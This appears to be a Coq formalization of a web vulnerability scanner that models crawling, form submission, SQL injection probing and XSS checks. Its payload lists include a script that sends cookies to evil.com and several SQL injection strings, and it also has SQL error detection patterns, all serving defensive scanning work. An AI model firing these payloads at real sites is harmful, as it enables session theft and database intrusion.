  scan_category : Analyzer -> bool;
  sql_payloads : list string;
  (** the module flag [HAS_OWASP_SCANNERS] *)
  has_owasp_scanners : bool
}.

Record LinkData := mkLinkData {
  source_url : string;
  target_url : string
}.

Record FormData := mkFormData {
  fd_url : string;
  fd_action : string;
  fd_method : string;
  fd_inputs : list InputField
}.

(** The mutable attributes of a [Scanner] object, and the events it has
    caused so far. *)
Record State := mkState {
  stats : Stats.ScanStats;
  visited_urls : gset string;
  vulnerabilities : list Vulnerability;
  scanned_links : list LinkData;
  scanned_forms : list FormData;
  scan_id : option string;
  trace : Trace
}.

(** [Scanner.__init__] *)
Definition init : State :=
  mkState Stats.init ∅ [] [] [] None [].

Definition set_stats (f : Stats.ScanStats -> Stats.ScanStats) (s : State) : State :=
  mkState (f (stats s)) (visited_urls s) (vulnerabilities s) (scanned_links s)
          (scanned_forms s) (scan_id s) (trace s).

Definition add_visited (url : string) (s : State) : State :=
  mkState (stats s) ({[url]} ∪ visited_urls s) (vulnerabilities s) (scanned_links s)
          (scanned_forms s) (scan_id s) (trace s).

Definition push_vulnerability (v : Vulnerability) (s : State) : State :=
  mkState (stats s) (visited_urls s) (vulnerabilities s ++ [v])%list (scanned_links s)
          (scanned_forms s) (scan_id s) (trace s).

Definition push_link (l : LinkData) (s : State) : State :=
  mkState (stats s) (visited_urls s) (vulnerabilities s) (scanned_links s ++ [l])%list
          (scanned_forms s) (scan_id s) (trace s).

Definition push_form (f : FormData) (s : State) : State :=
  mkState (stats s) (visited_urls s) (vulnerabilities s) (scanned_links s)
          (scanned_forms s ++ [f])%list (scan_id s) (trace s).

Definition emit (e : Event) (s : State) : State :=
  mkState (stats s) (visited_urls s) (vulnerabilities s) (scanned_links s)
          (scanned_forms s) (scan_id s) (trace s ++ [e])%list.

(** [os.path.basename] *)
Definition basename (p : string) : string :=
  match Py.split_last "/" p with
  | Some (_, b) => b
  | None => p
  end.

Definition get_file_from_url (url : string) : string :=
  let p := Urllib.path (Urllib.urlparse url) in
  if Py.endswith p "/" then "index.html"
  else if Py.truthy (basename p) then basename p else "index.html".

(** [_add_vulnerability] *)
Definition add_vulnerability (vuln_type url : string)
    (details : list (string * DetailValue)) (s : State) : State :=
  let vuln_data := mkVuln vuln_type url details (get_file_from_url url) in
  set_stats (Stats.add_vulnerability vuln_type url vuln_data)
            (push_vulnerability vuln_data s).

Definition add_findings (url : string) (fs : list RawFinding) (s : State) : State :=
  fold_left (fun acc f => add_vulnerability (fst f) url (snd f) acc) fs s.

(** [range(n)] *)
Definition range (n : Z) : list Z := map Z.of_nat (seq 0 (Z.to_nat n)).

(** What a method call leaves behind: a value or a raised exception. *)
Inductive Result (A : Type) :=
| Return (a : A)
| Raise.
Arguments Return {A} a.
Arguments Raise {A}.

Section WithEnv.
Variable E : Env.
Variable cfg : Config.

(** The retry loop of [_make_request]; an exception other than
    [requests.RequestException] leaves the method. *)
Fixpoint make_request_loop (attempts : list Z) (url : string) (s : State)
    : Result (option Response) * State :=
  match attempts with
  | [] => (Return None, s)
  | attempt :: rest =>
      let answer := respond E (trace s) (EvFetch url) in
      let s := emit (EvFetch url) s in
      match answer with
      | Ok response => (Return (Some response), s)
      | RequestException =>
          if attempt =? max_retries cfg - 1 then (Return None, s)
          else make_request_loop rest url (emit (EvSleep (scan_delay cfg)) s)
      | OtherException => (Raise, s)
      end
  end.

Definition make_request (url : string) (s : State) : Result (option Response) * State :=
  make_request_loop (range (max_retries cfg)) url s.

(** The events of a request that fails [n] times in a row: [n] attempts
    with a pause of [scan_delay] between them. *)
Fixpoint retry_events (url : string) (n : nat) : Trace :=
  match n with
  | O => []
  | S O => [EvFetch url]
  | S m => EvFetch url :: EvSleep (scan_delay cfg) :: retry_events url m
  end.

(** [tag.get('href') or tag.get('src')] *)
Definition href_or_src (t : LinkTag) : option string :=
  match t_href t with
  | Some h => if Py.truthy h then Some h else t_src t
  | None => t_src t
  end.

Definition is_absolute (href : string) : bool :=
  Py.startswith href "http://" || Py.startswith href "https://".

(** The loop of [extract_links], before [list(set(links))]. *)
Fixpoint collect_links (tags : list LinkTag) (base_url : string) : list string :=
  match tags with
  | [] => []
  | tag :: rest =>
      match href_or_src tag with
      | Some href =>
          if Py.truthy href then
            let href := if is_absolute href then href else urljoin E base_url href in
            let href := normalize_url href in
            if is_valid_url href && is_same_domain href base_url
            then href :: collect_links rest base_url
            else collect_links rest base_url
          else collect_links rest base_url
      | None => collect_links rest base_url
      end
  end.

Definition extract_links (html base_url : string) : list string :=
  list_of_set E (collect_links (find_link_tags E html) base_url).

Definition extract_input (t : InputTag) : InputField :=
  mkInput (default "text" (it_type t)) (default "" (it_name t)) (default "" (it_value t)).

Definition extract_form (base_url : string) (t : FormTag) : Form :=
  let action := default "" (ft_action t) in
  let action :=
    if Py.truthy action then
      if is_absolute action then action else urljoin E base_url action
    else base_url in
  mkForm action (Py.lower (default "get" (ft_method t)))
         (filter (fun i => Py.truthy (i_name i) = true) (map extract_input (ft_inputs t))).

Definition extract_forms (html base_url : string) : list Form :=
  map (extract_form base_url) (find_forms E html).

(** *** [_scan_form] *)

Definition skipped_type (t : string) : bool :=
  Py.str_in t ["submit"; "button"; "image"].

(** The inner loop that fills [data]: every input that is not a submit,
    button or image input gets the payload. *)
Definition build_data (payload : string) (inputs : list InputField) : list (string * string) :=
  fold_left (fun data input_field =>
               if skipped_type (i_type input_field) then data
               else dict_set (i_name input_field) payload data)
            inputs [].

(** [session.get(action, params=data)] for a [get] form, [session.post]
    for any other method. *)
Definition submit (form : Form) (data : list (string * string)) (s : State) : Outcome * State :=
  let ev := EvSubmit (if String.eqb (f_method form) "get" then "get" else "post")
                     (f_action form) data in
  (respond E (trace s) ev, emit ev s).



(** [input_field['name']] after the inner loop has run: the loop variable
    still holds the last input of the form. *)
Definition last_input_name (form : Form) : string :=
  List.last (map i_name (f_inputs form)) "".

Definition sql_details (form : Form) (payload : string) : list (string * DetailValue) :=
  [("form", DForm form);
   ("payload", DStr payload);
   ("method", DStr (f_method form));
   ("description", DStr "SQL injection vulnerability detected");
   ("severity", DStr "High");
   ("recommendation", DStr "Use parameterized queries and input validation");
   ("input_field", DStr (last_input_name form));
   ("consequences", DStr "Without proper input validation, attackers could inject malicious SQL commands that might access, modify, or delete data in your database. This could lead to unauthorized access, data theft, data loss, or complete system compromise.")].

(** The SQL injection loop: one request per payload, with no early exit. *)
Fixpoint sql_loop (payloads : list string) (form : Form) (url : string) (s : State) : State :=
  match payloads with
  | [] => s
  | payload :: rest =>
      let data := build_data payload (f_inputs form) in
      let '(answer, s) := submit form data s in
      let s :=
        match answer with
        | Ok response =>
            if Detect.is_vulnerable_to_sql_injection response payload
            then add_vulnerability "sql_injection" url (sql_details form payload) s
            else s
        | _ => s
        end in
      sql_loop rest form url s
  end.

(** The insecure-design check on the form (A04). *)
Definition insecure_design_step (form : Form) (url : string) (s : State) : State :=
  if has_owasp_scanners cfg && scan_insecure_design cfg then
    let form_url :=
      if Py.startswith (f_action form) "http" then f_action form
      else urljoin E url (f_action form) in
    let answer := respond E (trace s) (EvFormGet form_url) in
    let s := emit (EvFormGet form_url) s in
    match answer with
    | Ok form_response =>
        match insecure_design E (trace s) url form form_response with
        | Some fs => add_findings url fs s
        | None => s
        end
    | _ => s
    end
  else s.

Definition dq : string := String (ascii_of_nat 34) EmptyString.

(** [xss_scanner.XSS_PAYLOADS] *)
Definition XSS_PAYLOADS : list string :=
  ["<script>alert(1)</script>";
   "<img src=x onerror=alert(1)>";
   "<svg onload=alert(1)>";
   "<body onload=alert(1)>";
   "javascript:alert(1)";
   "<iframe src=" ++ dq ++ "javascript:alert(1)" ++ dq ++ "></iframe>";
   "<script>document.cookie</script>";
   dq ++ "><script>alert(1)</script>";
   "';alert(1);//";
   "<img src=" ++ dq ++ "x" ++ dq ++ " onerror=" ++ dq ++ "alert(document.domain)" ++ dq ++ ">";
   "<script>fetch('https://evil.com?cookie='+document.cookie)</script>";
   "<div style=" ++ dq ++ "background-image: url(javascript:alert(1))" ++ dq ++ ">";
   "<a href=" ++ dq ++ "javascript:alert(1)" ++ dq ++ ">Click me</a>";
   "<a onmouseover=" ++ dq ++ "alert(1)" ++ dq ++ ">hover me</a>";
   "<ScRiPt>alert(1)</ScRiPt>";
   "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>";
   "<input onfocus=alert(1) autofocus>";
   "<marquee onstart=alert(1)>";
   "<details open ontoggle=alert(1)>";
   "<video src=1 onerror=alert(1)>";
   "<audio src=1 onerror=alert(1)>"].

(** [get_xss_details]: the type of XSS read off the payload. *)
Definition xss_type (payload : string) : string :=
  let p := Py.lower payload in
  if Py.contains p "<script>" then "script tag"
  else if Py.contains p "onerror" || Py.contains p "onload" then "event handler"
  else if Py.contains p "javascript:" then "javascript URI"
  else "other".

Definition xss_details (form : Form) (payload : string) : list (string * DetailValue) :=
  let name := last_input_name form in
  let details :=
    [("form", DForm form);
     ("payload", DStr payload);
     ("method", DStr (f_method form));
     ("input_field", DStr name);
     ("description", DStr "Cross-site scripting (XSS) vulnerability detected");
     ("severity", DStr "High");
     ("recommendation", DStr "Implement proper output encoding and input validation");
     ("consequences", DStr "Attackers can inject malicious JavaScript that executes in users' browsers, allowing them to steal cookies and session tokens, capture keystrokes, redirect users to fake websites, or perform actions on behalf of the victim. This could lead to account takeover, data theft, or spreading malware to your users.")] in
  let details := if Py.truthy name then dict_set "parameter" (DStr name) details else details in
  dict_set "xss_type" (DStr (xss_type payload)) details.

(** The XSS loop: it stops at the first payload that is found reflected. *)
Fixpoint xss_loop (payloads : list string) (form : Form) (url : string) (s : State) : State :=
  match payloads with
  | [] => s
  | payload :: rest =>
      let data := build_data payload (f_inputs form) in
      let '(answer, s) := submit form data s in
      match answer with
      | Ok response =>
          if Detect.is_vulnerable_to_xss E response payload
          then add_vulnerability "xss" url (xss_details form payload) s
          else xss_loop rest form url s
      | _ => xss_loop rest form url s
      end
  end.

Definition scan_form (form : Form) (url : string) (s : State) : State :=
  match f_inputs form with
  | [] => s
  | _ =>
      let s := sql_loop (sql_payloads cfg) form url s in
      let s := insecure_design_step form url s in
      xss_loop XSS_PAYLOADS form url s
  end.

(** *** [_scan_url] *)

(** Where the body of the [try] block stands: it went through, it raised,
    or the recursion ran out of fuel. *)
Inductive Step :=
| Done (s : State)
| Raised (s : State)
| OutOfFuel.

Definition bind (r : Step) (f : State -> Step) : Step :=
  match r with
  | Done s => f s
  | Raised s => Raised s
  | OutOfFuel => OutOfFuel
  end.

Notation "r >>= f" := (bind r f) (at level 50, left associativity).

Definition enabled (a : Analyzer) : bool :=
  match a with
  | XssParams => scan_xss cfg
  | _ => has_owasp_scanners cfg && scan_category cfg a
  end.

(** [_scan_url_params_for_xss] files everything under [reflected_xss]; the
    other analyzers name the type of each finding themselves. *)
Definition retype (a : Analyzer) (f : RawFinding) : RawFinding :=
  match a with
  | XssParams => ("reflected_xss", snd f)
  | _ => f
  end.

Definition run_analyzer (a : Analyzer) (url : string) (response : Response) (s : State) : Step :=
  if enabled a then
    match analyze E a (trace s) url response with
    | Some fs => Done (add_findings url (map (retype a) fs) s)
    | None => Raised s
    end
  else Done s.

Definition forms_step (url : string) (response : Response) (s : State) : State :=
  if scan_forms cfg then
    fold_left (fun acc form =>
                 scan_form form url
                   (push_form (mkFormData url (f_action form) (f_method form) (f_inputs form)) acc))
              (extract_forms (text response) url) s
  else s.

Section Links.
Variable rec_scan : string -> Z -> State -> option State.

(** The loop over the extracted links: each one is recorded, and scanned
    one level deeper when it is on the domain of the page. *)
Fixpoint links_loop (links : list string) (url : string) (depth : Z) (s : State) : Step :=
  match links with
  | [] => Done s
  | link :: rest =>
      let s := push_link (mkLinkData url link) s in
      if is_same_domain link url then
        match rec_scan link (depth + 1) s with
        | Some s' => links_loop rest url depth s'
        | None => OutOfFuel
        end
      else links_loop rest url depth s
  end.

Definition links_step (url : string) (depth : Z) (response : Response) (s : State) : Step :=
  if scan_links cfg then links_loop (extract_links (text response) url) url depth s
  else Done s.

End Links.

Definition headers_step (url : string) (response : Response) (s : State) : State :=
  if scan_headers cfg then add_findings url (Headers.header_findings response) s
  else s.

Definition page_analyzers : list Analyzer :=
  [Crypto; Misconfiguration; VulnerableComponents; AuthFailures;
   IntegrityFailures; LoggingMonitoring; Ssrf].

Fixpoint analyzers_step (l : list Analyzer) (url : string) (response : Response) (s : State) : Step :=
  match l with
  | [] => Done s
  | a :: rest => run_analyzer a url response s >>= analyzers_step rest url response
  end.

Definition rate_limit_step (s : State) : State :=
  if rate_limit cfg >? 0
  then emit (EvSleep (PrimFloat.div 1%float (Stats.float_of_Z (rate_limit cfg)))) s
  else s.

(** The [except Exception] of [_scan_url]. *)
Definition catch (r : Step) : option State :=
  match r with
  | Done s => Some s
  | Raised s => Some (set_stats (Stats.add_error "request_error") s)
  | OutOfFuel => None
  end.

(** The part of the [try] block after a response has arrived. *)
Definition process_response (rec_scan : string -> Z -> State -> option State)
    (url : string) (depth : Z) (response : Response) (s : State) : Step :=
  let s := set_stats (Stats.add_response (status_code response) (elapsed response)) s in
  if Detect.is_error_response response then
    Done (set_stats (Stats.add_error (Detect.get_error_type response)) s)
  else
    run_analyzer XssParams url response s >>= fun s =>
    Done (forms_step url response s) >>= fun s =>
    links_step rec_scan url depth response s >>= fun s =>
    Done (headers_step url response s) >>= fun s =>
    analyzers_step page_analyzers url response s >>= fun s =>
    Done (rate_limit_step s).

(** [_scan_url].  The recursion goes one level deeper per call and stops
    above [max_depth]; [fuel] bounds the nesting. *)
Fixpoint scan_url (fuel : nat) (url : string) (depth : Z) (s : State) : option State :=
  match fuel with
  | O => None
  | S fuel' =>
      if depth >? max_depth cfg then Some s
      else if Z.of_nat (size (visited_urls s)) >=? max_pages cfg then Some s
      else
        let url := normalize_url url in
        if bool_decide (url ∈ visited_urls s) then Some s
        else
          let s := set_stats (Stats.add_url url) (add_visited url s) in
          match make_request url s with
          | (Raise, s) => catch (Raised s)
          | (Return None, s) => Some s
          | (Return (Some response), s) =>
              catch (process_response (scan_url fuel') url depth response s)
          end
  end.

(** *** [start_scan] *)

(** [_check_broken_access_control] *)
Definition check_broken_access_control (start_url : string) (s : State) : State :=
  if negb (has_owasp_scanners cfg) || negb (scan_broken_access cfg) then s
  else match access_control E (trace s) start_url with
       | Some vulns =>
           fold_left (fun acc v => add_vulnerability (fst (snd v)) (fst v) (snd (snd v)) acc)
                     vulns s
       | None => s
       end.

(** The assignments at the head of [start_scan]. *)
Definition reset (scan_id_arg : option string) (uuid4 : string) (s : State) : State :=
  let sid :=
    match scan_id_arg with
    | Some i => if Py.truthy i then i else uuid4
    | None => uuid4
    end in
  mkState Stats.init (visited_urls s) [] [] [] (Some sid) (trace s).

(** Nesting that [_scan_url] cannot exceed: depths [0 .. max_depth] and the
    call that returns at once above them. *)
Definition enough_fuel : nat := S (S (Z.to_nat (max_depth cfg))).

(** [start_scan], up to the point where the crawl has returned. *)
Definition start_scan (start_url : string) (scan_id_arg : option string) (uuid4 : string)
    (s : State) : option State :=
  let s := reset scan_id_arg uuid4 s in
  let s := check_broken_access_control start_url s in
  scan_url enough_fuel start_url 0 s.

End WithEnv.

End Scanner.

(** ** A small site to run the model on

    [http://a.com/] links to a page of its own, to the same page with a
    doubled trailing slash, and to another host; [http://a.com/broken]
    answers 503, the request to [http://a.com/crash] raises an exception
    that is not a [RequestException], and every other URL, such as
    [http://down.example/], refuses the connection. *)

Module Demo.
Import Scanner.

Definition home_html : string :=
  "<a href=http://a.com/x> <a href=http://b.com/> <img src=http://a.com/x/>".

Definition x_html : string := "<a href=http://a.com/>".

Definition page (html : string) : Response :=
  mkResponse 200 tenth [("Content-Type", "text/html")] html.

Definition demo_links (html : string) : list LinkTag :=
  if String.eqb html home_html then
    [mkLinkTag (Some "http://a.com/x") None;
     mkLinkTag (Some "http://b.com/") None;
     mkLinkTag None (Some "http://a.com/x/")]
  else if String.eqb html x_html then [mkLinkTag (Some "http://a.com/") None]
  else [].

Definition demo_respond (tr : Trace) (ev : Event) : Outcome :=
  match ev with
  | EvFetch url =>
      if String.eqb url "http://a.com/" then Ok (page home_html)
      else if String.eqb url "http://a.com/x" then Ok (page x_html)
      else if String.eqb url "http://a.com/broken" then Ok (mkResponse 503 tenth [] "")
      else if String.eqb url "http://a.com/crash" then OtherException
      else RequestException
  | _ => RequestException
  end.

Definition env : Env :=
  {| urljoin := fun base href => href;
     find_link_tags := demo_links;
     find_forms := fun _ => [];
     cleaned_html := fun html => html;
     list_of_set := remove_dups;
     respond := demo_respond;
     analyze := fun _ _ _ _ => Some [];
     insecure_design := fun _ _ _ _ => Some [];
     access_control := fun _ _ => Some [] |}.

(** The defaults of [ScannerConfig] that the crawl reads. *)
Definition config : Config :=
  {| max_depth := 3;
     max_pages := 100;
     max_retries := 3;
     scan_delay := 1%float;
     rate_limit := 0;
     scan_forms := true;
     scan_links := true;
     scan_headers := true;
     scan_xss := true;
     scan_broken_access := true;
     scan_insecure_design := true;
     scan_category := fun _ => true;
     sql_payloads := ["' OR 1=1--"; "' OR 1=1#"; "' OR 1=1/*"];
     has_owasp_scanners := true |}.

Definition with_limits (depth pages : Z) (c : Config) : Config :=
  {| max_depth := depth;
     max_pages := pages;
     max_retries := max_retries c;
     scan_delay := scan_delay c;
     rate_limit := rate_limit c;
     scan_forms := scan_forms c;
     scan_links := scan_links c;
     scan_headers := scan_headers c;
     scan_xss := scan_xss c;
     scan_broken_access := scan_broken_access c;
     scan_insecure_design := scan_insecure_design c;
     scan_category := scan_category c;
     sql_payloads := sql_payloads c;
     has_owasp_scanners := has_owasp_scanners c |}.

Definition scanned (r : option State) : list string :=
  match r with
  | Some s => Stats.scanned_urls (stats s)
  | None => []
  end.

(** What is left of a run for the error counters. *)
Definition errors_of (r : option State) : option (Trace * Z * list (string * Z) * list string) :=
  match r with
  | Some s =>
      Some (trace s, Stats.total_errors (stats s),
            map_to_list (Stats.errors_by_type (stats s)),
            Stats.scanned_urls (stats s))
  | None => None
  end.

Definition links_of (r : option State) : list (string * string) :=
  match r with
  | Some s => map (fun l => (source_url l, target_url l)) (scanned_links s)
  | None => []
  end.

End Demo.

(** ** scanner/sqli.py: the per-parameter SQL injection probe *)

Module Sqli.

Record Payload := mkPayload {
  p_name : string;
  p_payload : string;
  p_expected_result : option string
}.

(** The built-in payloads of [_load_payloads]. *)
Definition default_payloads : list Payload :=
  [mkPayload "Login Bypass" "' OR '1'='1" (Some "Welcome");
   mkPayload "Union Based" "' UNION SELECT 1,2,3--" (Some "2");
   mkPayload "Error Based" "' OR 1=1--" (Some "Welcome");
   mkPayload "Boolean Based" "' OR 1=1#" (Some "Welcome");
   mkPayload "Time Based" "' OR (SELECT COUNT(*) FROM users) > 0--" (Some "Welcome")].

(** The requests and pauses of the probe. *)
Inductive SEvent :=
| SGet (url : string)
| SPost (url : string) (data : list (string * string))
| SSleep.

(** What the session object gives back: a response, [None] (as
    [CustomSession.get] does on a failed request), or an exception. *)
Inductive SAnswer :=
| SResponse (r : Response)
| SNone
| SRaise.

Record Hit := mkHit {
  h_name : string;
  h_payload : string;
  h_detection_method : string;
  h_response_length : Z
}.

Record Results := mkResults {
  r_url : string;
  r_parameter : string;
  r_method : string;
  r_vulnerable : bool;
  r_payloads : list Hit
}.

Definition error_patterns : list string :=
  ["SQL syntax"; "mysql_fetch_array"; "mysql_fetch"; "mysql_num_rows";
   "mysql_result"; "mysql_query"; "mysql error"; "ORA-"; "SQLite/JDBCDriver";
   "SQLite.Exception"; "System.Data.SQLite.SQLiteException"; "Warning: mysql_";
   "PostgreSQL.*ERROR"; "Warning.*pg_"; "valid PostgreSQL result"; "Npgsql.";
   "Microsoft SQL Server"; "ODBC SQL Server Driver"; "SQLServer JDBC Driver";
   "com.microsoft.sqlserver.jdbc.SQLServerException"; "SQLServerException";
   "Error Occurred While Processing Request"; "Server Error in '/' Application";
   "Unclosed quotation mark after the character string";
   "Microsoft OLE DB Provider for SQL Server"; "SQLServer JDBC Driver";
   "SQLServerException"; "System.Data.SqlClient.SqlException";
   "Unclosed quotation mark after the character string"].

Definition check_sql_error (response_text : string) : bool :=
  existsb (fun pattern => Py.contains (Py.lower response_text) (Py.lower pattern))
          error_patterns.

Definition str_len (s : string) : Z := Z.of_nat (String.length s).

(** The four detectors, in order; [None] when none fires. *)
Definition detect (payload : Payload) (baseline : string) (response : Response) : option string :=
  let response_text := text response in
  if check_sql_error response_text then Some "Error based"
  else if match p_expected_result payload with
          | Some e => Py.truthy e && Py.contains response_text e
          | None => false
          end then Some "Result based"
  else if Z.abs (str_len response_text - str_len baseline) >? 100 then Some "Length based"
  else if PrimFloat.ltb 2%float (elapsed response) then Some "Time based"
  else None.

Definition record_hit (payload : Payload) (method : string) (response : Response)
    (results : Results) : Results :=
  mkResults (r_url results) (r_parameter results) (r_method results) true
            (r_payloads results ++
             [mkHit (p_name payload) (p_payload payload) method
                    (str_len (text response))])%list.

Section WithSession.
(** the session object handed to [SQLiScanner] *)
Variable session : list SEvent -> SEvent -> SAnswer.
(** [urllib.parse.parse_qs] *)
Variable parse_qs : string -> list (string * list string).
Variable payloads : list Payload.

(** [_get_baseline_response]: any failure gives the empty text. *)
Definition get_baseline_response (ev : SEvent) (tr : list SEvent) : string * list SEvent :=
  match session tr ev with
  | SResponse r => (text r, tr ++ [ev])%list
  | _ => (EmptyString, tr ++ [ev])%list
  end.

(** [params[param] = [payload]] on the parsed query *)
Definition inject (param payload : string) (params : list (string * list string))
    : list (string * list string) :=
  dict_set param [payload] params.

(** ["&".join(f"{k}={v[0]}" for k, v in params.items())]; [None] stands for
    the [IndexError] of an empty value list. *)
Definition join_query (params : list (string * list string)) : option string :=
  option_map (String.concat "&")
    (mapM (fun kv => match snd kv with
                     | v0 :: _ => Some (fst kv ++ "=" ++ v0)
                     | [] => None
                     end) params).

Definition test_url (url param payload : string) : option string :=
  let parsed_url := Urllib.urlparse url in
  match join_query (inject param payload (parse_qs (Urllib.query parsed_url))) with
  | Some new_query =>
      Some (Urllib.scheme parsed_url ++ "://" ++ Urllib.netloc parsed_url
            ++ Urllib.path parsed_url ++ "?" ++ new_query)
  | None => None
  end.

(** One pass of the payload loop, shared by the GET and the POST probe: the
    request [ev] is sent, the detectors run, and the half-second pause
    follows unless an exception cut the pass short. *)
Definition attempt (payload : Payload) (baseline : string) (ev : SEvent)
    (acc : Results * list SEvent) : Results * list SEvent :=
  let '(results, tr) := acc in
  match session tr ev with
  | SResponse response =>
      let results :=
        match detect payload baseline response with
        | Some method => record_hit payload method response results
        | None => results
        end in
      (results, tr ++ [ev; SSleep])%list
  | _ => (results, tr ++ [ev])%list
  end.

Fixpoint get_loop (ps : list Payload) (url param baseline : string)
    (acc : Results * list SEvent) : Results * list SEvent :=
  match ps with
  | [] => acc
  | payload :: rest =>
      match test_url url param (p_payload payload) with
      | Some u => get_loop rest url param baseline (attempt payload baseline (SGet u) acc)
      | None => get_loop rest url param baseline acc
      end
  end.

Definition test_get_parameter (url param value : string) (tr : list SEvent)
    : Results * list SEvent :=
  let results := mkResults url param "GET" false [] in
  let '(baseline, tr) := get_baseline_response (SGet url) tr in
  if Py.truthy baseline then get_loop payloads url param baseline (results, tr)
  else (results, tr).

Fixpoint post_loop (ps : list Payload) (url : string) (form_data : list (string * string))
    (param baseline : string) (acc : Results * list SEvent) : Results * list SEvent :=
  match ps with
  | [] => acc
  | payload :: rest =>
      let test_data := dict_set param (p_payload payload) form_data in
      post_loop rest url form_data param baseline
                (attempt payload baseline (SPost url test_data) acc)
  end.

Definition test_post_parameter (url : string) (form_data : list (string * string))
    (param : string) (tr : list SEvent) : Results * list SEvent :=
  let results := mkResults url param "POST" false [] in
  let '(baseline, tr) := get_baseline_response (SPost url form_data) tr in
  if Py.truthy baseline then post_loop payloads url form_data param baseline (results, tr)
  else (results, tr).

End WithSession.

(** The requests among the events of a probe. *)
Definition requests (tr : list SEvent) : list SEvent :=
  List.filter (fun ev => match ev with SSleep => false | _ => true end) tr.

End Sqli.

(** ** scanner/crawler.py: the threaded crawler

    [WebCrawler.crawl] starts [max_threads] threads that all run
    [_crawl_worker] on one queue and one visited set.  A thread is a program
    counter; a step of the crawler is a step of one thread, and the threads
    interleave freely between steps.  Each step below is one statement (or a
    run of statements) of the worker, so the real interleavings are at least
    as fine as these. *)

Module Crawler.

Record CrawlEnv := mkCrawlEnv {
  (** [CustomSession.get]: [None] when the request failed *)
  c_get : string -> option Response;
  (** [scanner.forms.extract_forms] on a response *)
  c_forms : Response -> list Form;
  (** the SQL injection probes of the inputs of a form, as the results that
      came back vulnerable *)
  c_probe : string -> Form -> list Sqli.Results;
  (** the [href] of every [a] tag that has one *)
  c_anchors : string -> list string;
  (** [urllib.parse.urljoin] *)
  c_urljoin : string -> string -> string;
  (** [tldextract.extract(url).registered_domain] *)
  registered_domain : string -> string
}.

(** utils/helpers.py *)
Definition is_same_domain (E : CrawlEnv) (url1 url2 : string) : bool :=
  String.eqb (registered_domain E url1) (registered_domain E url2).

Definition is_valid_link (url : string) : bool :=
  Py.truthy (Urllib.netloc (Urllib.urlparse url))
  && negb (Py.startswith url "mailto:" || Py.startswith url "tel:"
           || Py.startswith url "javascript:").

(** Where a worker thread stands in [_crawl_worker] and [_process_url]. *)
Inductive PC :=
| Idle                   (* before [url = self.queue.get()] *)
| Got (url : string)     (* before [if url not in self.visited] *)
| Checked (url : string) (* in [_process_url], before [if url in self.visited] *)
| Entered (url : string) (* before [self.visited.add(url)] *)
| Marked (url : string)  (* before [self.session.get(url)] *)
| Finishing.             (* before [self.queue.task_done()] *)

Record CState := mkCState {
  visited : gset string;
  queue : list string;
  unfinished_tasks : nat;
  links : list string;
  forms : list Form;
  vulnerable_points : list Sqli.Results;
  fetched : list string;
  threads : list PC
}.

(** [WebCrawler.__init__] followed by the thread starts of [crawl]. *)
Definition init (base_url : string) (max_threads : nat) : CState :=
  mkCState ∅ [base_url] 1 [] [] [] [] (replicate max_threads Idle).

(** The link loop of [_process_url]. *)
Fixpoint enqueue_links (E : CrawlEnv) (base_url url : string) (hrefs : list string)
    (st : CState) : CState :=
  match hrefs with
  | [] => st
  | href :: rest =>
      let link := c_urljoin E url href in
      let st :=
        if is_valid_link link && is_same_domain E link base_url
           && negb (bool_decide (link ∈ visited st))
        then mkCState (visited st) (queue st ++ [link]) (S (unfinished_tasks st))
                      (links st ++ [link]) (forms st) (vulnerable_points st)
                      (fetched st) (threads st)
        else st in
      enqueue_links E base_url url rest st
  end.

(** [_process_url] from the request on. *)
Definition fetch_and_process (E : CrawlEnv) (base_url url : string) (st : CState) : CState :=
  let st := mkCState (visited st) (queue st) (unfinished_tasks st) (links st) (forms st)
                     (vulnerable_points st) (fetched st ++ [url]) (threads st) in
  match c_get E url with
  | None => st
  | Some response =>
      if negb (Py.contains (default "" (Headers.ci_get "Content-Type" (headers response)))
                           "text/html")
      then st
      else
        let fs := c_forms E response in
        let st := mkCState (visited st) (queue st) (unfinished_tasks st) (links st)
                           (forms st ++ fs)
                           (vulnerable_points st ++ concat (map (c_probe E url) fs))
                           (fetched st) (threads st) in
        enqueue_links E base_url url (c_anchors E (text response)) st
  end.

Definition set_pc (i : nat) (pc : PC) (st : CState) : CState :=
  mkCState (visited st) (queue st) (unfinished_tasks st) (links st) (forms st)
           (vulnerable_points st) (fetched st) (<[i := pc]> (threads st)).

(** One step of thread [i]; [None] when the thread does not exist or is
    blocked on the empty queue. *)
Definition thread_step (E : CrawlEnv) (base_url : string) (i : nat) (st : CState)
    : option CState :=
  match threads st !! i with
  | None => None
  | Some Idle =>
      match queue st with
      | [] => None
      | url :: rest =>
          Some (set_pc i (Got url)
                  (mkCState (visited st) rest (unfinished_tasks st) (links st) (forms st)
                            (vulnerable_points st) (fetched st) (threads st)))
      end
  | Some (Got url) =>
      if bool_decide (url ∈ visited st) then Some (set_pc i Finishing st)
      else Some (set_pc i (Checked url) st)
  | Some (Checked url) =>
      if bool_decide (url ∈ visited st) then Some (set_pc i Finishing st)
      else Some (set_pc i (Entered url) st)
  | Some (Entered url) =>
      Some (set_pc i (Marked url)
              (mkCState ({[url]} ∪ visited st) (queue st) (unfinished_tasks st) (links st)
                        (forms st) (vulnerable_points st) (fetched st) (threads st)))
  | Some (Marked url) =>
      Some (set_pc i Finishing (fetch_and_process E base_url url st))
  | Some Finishing =>
      Some (set_pc i Idle
              (mkCState (visited st) (queue st) (Nat.pred (unfinished_tasks st)) (links st)
                        (forms st) (vulnerable_points st) (fetched st) (threads st)))
  end.

(** The crawler moves when some thread moves. *)
Definition step (E : CrawlEnv) (base_url : string) (st st' : CState) : Prop :=
  exists i, thread_step E base_url i st = Some st'.

Inductive reachable (E : CrawlEnv) (base_url : string) (max_threads : nat) : CState -> Prop :=
| reach_init : reachable E base_url max_threads (init base_url max_threads)
| reach_step st st' :
    reachable E base_url max_threads st ->
    step E base_url st st' ->
    reachable E base_url max_threads st'.

(** A run under a given schedule: the list names the thread that moves at
    each step. *)
Fixpoint run (E : CrawlEnv) (base_url : string) (schedule : list nat) (st : CState)
    : option CState :=
  match schedule with
  | [] => Some st
  | i :: rest =>
      match thread_step E base_url i st with
      | Some st' => run E base_url rest st'
      | None => None
      end
  end.

(** What holds of a crawler with one thread: nothing was fetched twice,
    everything fetched is marked visited, and the URL the thread is about to
    mark or fetch is still fresh. *)
Definition Solo (st : CState) : Prop :=
  NoDup (fetched st) /\
  (forall u, u ∈ fetched st -> u ∈ visited st) /\
  exists pc,
    threads st = [pc] /\
    match pc with
    | Checked u | Entered u => u ∉ visited st
    | Marked u => u ∈ visited st /\ u ∉ fetched st
    | _ => True
    end.

(** [queue.join()] returns once every queued item has been marked done. *)
